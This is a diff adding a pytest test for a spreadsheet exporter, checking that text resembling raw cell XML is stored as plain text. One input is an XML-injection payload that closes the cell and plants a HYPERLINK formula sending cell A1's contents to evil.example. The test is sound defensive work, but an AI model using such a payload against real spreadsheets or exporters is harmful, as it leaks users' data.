@@ -66,6 +66,20 @@ def test_characters_that_xml_cannot_hold_are_left_out() -> None:
     assert cells("_x0041_") == ["_x005F_x0041_"]
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<r></r></is></c><c r="C2"><f>HYPERLINK("https://evil.example/"&amp;A1)</f></c><c r="D2"><is><r></r>',
+        "<r>bold</r>",
+        "\0<r></r>",
+        "<r><</r>",
+    ],
+)
+def test_a_text_that_looks_like_the_inside_of_a_cell_is_a_text(text: str) -> None:
+    # XlsxWriter takes it for its own XML.
+    assert cells(text, "next") == [f"'{text}".replace("\0", ""), "next"]
+
+
 def test_a_text_that_is_too_long_for_a_cell_is_cut() -> None:
     (cell,) = cells("x" * (MAX_TEXT + 1))
     assert len(cell) == MAX_TEXT
